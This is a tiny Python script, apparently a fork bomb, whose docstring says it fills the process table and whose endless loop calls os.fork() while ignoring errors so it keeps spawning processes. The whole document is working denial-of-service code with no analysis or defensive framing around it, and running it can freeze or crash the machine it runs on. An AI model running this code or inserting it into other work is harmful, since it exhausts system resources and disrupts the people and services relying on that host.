"""Fills the process table, if it is let."""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
